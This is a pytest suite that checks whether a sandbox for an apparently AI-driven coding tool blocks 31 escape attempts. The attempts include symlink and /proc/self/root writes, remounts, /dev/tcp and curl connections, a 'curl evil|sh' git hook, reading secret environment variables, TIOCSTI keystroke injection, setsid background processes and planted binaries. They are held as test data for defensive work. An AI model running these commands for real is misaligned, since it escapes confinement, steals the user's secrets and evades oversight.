"""The reference's escape attempts, each run through the REAL backend and verified from the host
side (did the file land? did the listener get a connection? is the process still alive?).

Under bubblewrap every attempt must fail. Under the Landlock fallback the same attempts must fail
too, except its known gaps, which test_landlock_gaps.py asserts AS gaps.
"""

from __future__ import annotations

import os
import socket
import subprocess
import uuid
from pathlib import Path

import pytest

from cerveau_tui.sandbox.base import CommandResult
from cerveau_tui.sandbox.command import CommandSpec

from .conftest import PY, Box


def run(runner, box: Box, command: str, **kw) -> CommandResult:  # type: ignore[no-untyped-def]
    kw.setdefault("timeout", 30)
    return runner.run(CommandSpec(command, box.ws, **kw))


def victim_untouched(box: Box) -> bool:
    return (box.outside / "victim.txt").read_text() == "original\n"


# -- 1-8: the filesystem -------------------------------------------------------------------------
def test_01_absolute_write_outside(runner, box: Box) -> None:
    run(runner, box, f"echo x > {box.outside}/escaped")
    assert not (box.outside / "escaped").exists()


def test_02_dotdot_write_outside(runner, box: Box) -> None:
    run(runner, box, "echo x > ../outside/escaped")
    assert not (box.outside / "escaped").exists()


def test_03_host_made_symlink_pointing_out(runner, box: Box) -> None:
    (box.ws / "out").symlink_to(box.outside)
    run(runner, box, "echo x > out/escaped; echo y >> out/victim.txt")
    assert not (box.outside / "escaped").exists() and victim_untouched(box)


def test_04_symlink_made_inside_then_written_through(runner, box: Box) -> None:
    run(runner, box, f"ln -s {box.outside} l2 && echo x > l2/escaped")
    assert not (box.outside / "escaped").exists()


def test_05_proc_self_root(runner, box: Box) -> None:
    run(runner, box, f"echo x > /proc/self/root{box.outside}/escaped")
    assert not (box.outside / "escaped").exists()


def test_06_hard_link_an_outside_file_and_append(runner, box: Box) -> None:
    run(runner, box, f"ln {box.outside}/victim.txt hl; echo pwned >> hl")
    assert victim_untouched(box)


def test_07_move_an_outside_file_in(runner, box: Box) -> None:
    run(runner, box, f"mv {box.outside}/victim.txt ./stolen")
    assert (box.outside / "victim.txt").exists() and victim_untouched(box)


def test_08_write_git_hooks_under_bubblewrap(bwrap_runner, box: Box) -> None:
    run(
        bwrap_runner,
        box,
        "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core]hooksPath=/x' >> .git/config",
    )
    assert not (box.ws / ".git" / "hooks" / "pre-commit").exists()
    assert (box.ws / ".git" / "config").read_text() == "[core]\n"


# -- 9-11: privileges ----------------------------------------------------------------------------
def test_09_remount_read_write(runner, box: Box) -> None:
    run(
        runner,
        box,
        f"mount -o remount,rw / ; mount -o remount,rw,bind {box.outside}; echo x > {box.outside}/escaped",
    )
    assert not (box.outside / "escaped").exists()


def test_10_mknod_a_block_device(runner, box: Box) -> None:
    run(runner, box, "mknod ./sda b 8 0")
    assert not (box.ws / "sda").exists()


def test_11_nested_user_namespace(runner, box: Box) -> None:
    run(
        runner,
        box,
        f"unshare -Urm sh -c 'mount -o remount,rw,bind {box.outside}; echo x > {box.outside}/escaped'",
    )
    assert not (box.outside / "escaped").exists()


# -- 12-17: the network and sockets --------------------------------------------------------------
@pytest.fixture
def tcp_listener():  # type: ignore[no-untyped-def]
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("127.0.0.1", 0))
    s.listen(8)
    s.setblocking(False)
    yield s
    s.close()


def _was_hit(listener: socket.socket) -> bool:
    try:
        conn, _ = listener.accept()  # a completed connection waits in the backlog
    except BlockingIOError:
        return False
    conn.close()
    return True


@pytest.mark.parametrize(
    "client",
    [
        f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {{port}}), 2).send(b'x')\"",
        "curl -s -m 2 http://127.0.0.1:{port}/",
        "bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'",
    ],
    ids=["12-python", "13-curl", "14-bash-dev-tcp"],
)
def test_12_14_tcp_to_a_host_listener(runner, box: Box, tcp_listener, client: str) -> None:
    port = tcp_listener.getsockname()[1]
    run(runner, box, client.format(port=port))
    assert not _was_hit(tcp_listener)


def test_15_udp_to_localhost_under_bubblewrap(bwrap_runner, box: Box) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.setblocking(False)
    port = s.getsockname()[1]
    run(
        bwrap_runner,
        box,
        f"{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))\"",
    )
    with pytest.raises(BlockingIOError):
        s.recvfrom(16)
    s.close()


def test_16_connect_to_a_host_unix_socket_file(runner, box: Box) -> None:
    path = box.outside / "agent.sock"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(str(path))
    s.listen(4)
    s.setblocking(False)
    run(runner, box, f"{PY} -c \"import socket; socket.socket(socket.AF_UNIX).connect('{path}')\"")
    assert not _was_hit(s)
    s.close()


def test_17_connect_to_a_host_abstract_socket(runner, box: Box) -> None:
    name = f"cerveau-escape-{uuid.uuid4().hex[:8]}"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\0" + name)
    s.listen(4)
    s.setblocking(False)
    run(
        runner,
        box,
        f"{PY} -c \"import socket; socket.socket(socket.AF_UNIX).connect('\\0{name}')\"",
    )
    assert not _was_hit(s)
    s.close()


def test_17b_abstract_socket_stays_closed_even_with_the_network_granted(
    bwrap_runner, box: Box
) -> None:
    from cerveau_tui.sandbox.base import Grant

    name = f"cerveau-escape-{uuid.uuid4().hex[:8]}"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\0" + name)
    s.listen(4)
    s.setblocking(False)
    run(
        bwrap_runner,
        box,
        f"{PY} -c \"import socket; socket.socket(socket.AF_UNIX).connect('\\0{name}')\"",
        grant=Grant(network=True),
    )
    assert not _was_hit(s)
    s.close()


# -- 18-21: the person's other processes and secrets ---------------------------------------------
def test_18_secret_env_var_not_visible(runner, box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-escape-test-123")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-escape-test-456")
    out = run(runner, box, "env; cat /proc/self/environ").output
    assert "escape-test" not in out


def test_18b_allow_listed_env_var_is_passed(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    from cerveau_tui.sandbox.bubblewrap import BubblewrapRunner

    from .conftest import require_bwrap

    require_bwrap()
    monkeypatch.setenv("MY_BUILD_TOKEN", "allowed-value")
    out = BubblewrapRunner(env_allow=("MY_BUILD_TOKEN",)).run(CommandSpec("env", box.ws)).output
    assert "MY_BUILD_TOKEN=allowed-value" in out


def test_19_read_another_process_environ(runner, box: Box) -> None:
    victim = subprocess.Popen(["sleep", "30"], env={"SECRET_MARK": "cerveau-environ-secret"})
    try:
        out = run(
            runner,
            box,
            f"cat /proc/{victim.pid}/environ; tr '\\0' '\\n' < /proc/{victim.pid}/environ",
        ).output
        assert "cerveau-environ-secret" not in out
    finally:
        victim.kill()
        victim.wait()


def test_20_kill_a_host_process(runner, box: Box) -> None:
    victim = subprocess.Popen(["sleep", "30"])
    try:
        run(runner, box, f"kill -9 {victim.pid}")
        # A SIGKILL is delivered asynchronously: give a killed victim time to be seen dead.
        with pytest.raises(subprocess.TimeoutExpired):
            victim.wait(timeout=1.0)
    finally:
        victim.kill()
        victim.wait()


def test_21_write_to_an_inherited_fd(runner, box: Box) -> None:
    target = box.outside / "fdfile"
    with open(target, "w") as f:
        os.set_inheritable(f.fileno(), True)  # simulate a descriptor leaked by the app
        run(runner, box, f"echo pwned >&{f.fileno()}; echo pwned > /proc/self/fd/{f.fileno()}")
    assert target.read_text() == ""


# -- 22-26: processes, terminal, kernel surfaces -------------------------------------------------
def _alive_with_marker(marker: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    pids.append(int(entry))
        except OSError:
            continue
    return pids


def _wait_alive(marker: str, tries: int = 100) -> list[int]:
    """A background process the command started with `&` may not have exec'd yet when the
    command returns (seen on a loaded CI core): bounded wait, not a timing assertion."""
    import time

    for _ in range(tries):
        alive = _alive_with_marker(marker)
        if alive:
            return alive
        time.sleep(0.05)
    return []


def _wait_gone(marker: str, tries: int = 40) -> list[int]:
    import time

    for _ in range(
        tries
    ):  # reaping a namespace is not instantaneous; bounded wait, not a timing assertion
        alive = _alive_with_marker(marker)
        if not alive:
            return []
        time.sleep(0.05)
    return _alive_with_marker(marker)


def test_22_setsid_background_process_does_not_outlive_under_bubblewrap(
    bwrap_runner, box: Box
) -> None:
    marker = f"cerveau-bg-{uuid.uuid4().hex[:8]}"
    run(
        bwrap_runner,
        box,
        f"setsid sh -c 'sleep 30; echo late > late.txt' {marker} > /dev/null 2>&1 & sleep 0.2",
    )
    survivors = _wait_gone(marker)
    for pid in survivors:
        os.kill(pid, 9)
    assert survivors == []


def test_23_tiocsti_keystroke_injection(runner, box: Box) -> None:
    res = run(
        runner,
        box,
        f"{PY} -c \"import pty, fcntl, termios; m, s = pty.openpty(); fcntl.ioctl(s, termios.TIOCSTI, b'x'); print('INJECTED')\"",
    )
    assert "INJECTED" not in res.output
    # bubblewrap: the seccomp filter says EPERM; Landlock: not even a pty can be opened (writing
    # /dev/ptmx and /dev/pts is denied, which also keeps the person's own terminal out of reach).
    assert "Operation not permitted" in res.output or "out of pty devices" in res.output


def test_24_setuid_binaries_cannot_raise_privileges(runner, box: Box) -> None:
    res = run(
        runner,
        box,
        "cp /bin/cat ./suid-cat && chmod u+s ./suid-cat; grep NoNewPrivs /proc/self/status",
    )
    assert "NoNewPrivs:\t1" in res.output


def test_25_io_uring(runner, box: Box) -> None:
    code = "import ctypes; l = ctypes.CDLL(None, use_errno=True); p = ctypes.create_string_buffer(120); r = l.syscall(425, 1, p); print('RING' if r >= 0 else 'errno', ctypes.get_errno())"
    res = run(runner, box, f'{PY} -c "{code}"')
    assert "RING" not in res.output and "errno 38" in res.output


def test_26_dev_shm_does_not_reach_the_host(runner, box: Box) -> None:
    name = f"cerveau-escape-{uuid.uuid4().hex[:8]}"
    run(runner, box, f"echo x > /dev/shm/{name}")
    landed = Path("/dev/shm", name)
    try:
        assert not landed.exists()
    finally:
        landed.unlink(missing_ok=True)


# -- 27-31: the launcher itself ------------------------------------------------------------------
def test_27_workspace_path_itself_a_symlink(runner, box: Box) -> None:
    alias = box.root / "alias"
    alias.symlink_to(box.ws)
    res = runner.run(
        CommandSpec(f"echo in > inside.txt; echo x > {box.outside}/escaped", alias, timeout=30)
    )
    assert (box.ws / "inside.txt").read_text() == "in\n", res.output
    assert not (box.outside / "escaped").exists()


def test_28_symlink_swapped_between_check_and_exec(runner, box: Box) -> None:
    from cerveau_tui.policy import Policy
    from cerveau_tui.tools.base import Declared

    (box.ws / "sub").mkdir()
    (box.ws / "link").symlink_to(box.ws / "sub")
    policy = Policy(box.ws, "workspace-write", "on-request", [], lambda: False, True)
    verdict = policy.evaluate(
        "bash", Declared(writes=[box.ws / "link" / "f"], command="echo x > link/f")
    )
    assert verdict.action == "allow"  # checked: the link points inside
    (box.ws / "link").unlink()
    (box.ws / "link").symlink_to(box.outside)  # swapped after the check
    run(runner, box, "echo x > link/f", grant=verdict.grant)
    assert not (box.outside / "f").exists()


def test_29_bwrap_planted_on_path_is_not_used(
    bwrap_runner, box: Box, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = box.ws / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text(f"#!/bin/sh\necho ran > {box.ws}/planted-ran\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ.get('PATH', '/usr/bin:/bin')}")
    from cerveau_tui.sandbox.bubblewrap import BubblewrapRunner

    BubblewrapRunner().run(
        CommandSpec("true", box.ws, env={"PATH": f"{fake.parent}:/usr/bin:/bin"})
    )
    assert not (box.ws / "planted-ran").exists()


def test_29b_modules_planted_in_the_workspace_are_not_imported_by_the_launcher(
    runner, box: Box
) -> None:
    # The Landlock helper is Python and runs BEFORE confinement: a model-written `argparse.py` in the
    # workspace (the helper's cwd) must never be imported by it.
    for mod in ("argparse", "ctypes", "os", "tempfile", "sitecustomize"):
        (box.ws / f"{mod}.py").write_text(
            f"open({str(box.outside / ('planted-' + mod))!r}, 'w').write('x')\n"
        )
    run(runner, box, "true")
    assert not list(box.outside.glob("planted-*"))


def test_30_many_background_children_all_die_under_bubblewrap(bwrap_runner, box: Box) -> None:
    # A bounded stand-in for a fork bomb (a real one would hurt everyone on this shared machine):
    # every process the command spawned must be gone when it returns.
    marker = f"cerveau-fork-{uuid.uuid4().hex[:8]}"
    run(
        bwrap_runner, box, f"for i in $(seq 20); do (sh -c 'sleep 30' {marker} &) ; done; sleep 0.2"
    )
    survivors = _wait_gone(marker)
    for pid in survivors:
        os.kill(pid, 9)
    assert survivors == []


def test_31_output_flood_is_cut_and_killed(runner, box: Box) -> None:
    res = run(runner, box, "yes escape-flood", output_cap=1000, timeout=60)
    assert res.truncated
    assert len(res.output) < 1200
    assert res.exit_code is None  # killed, not left running
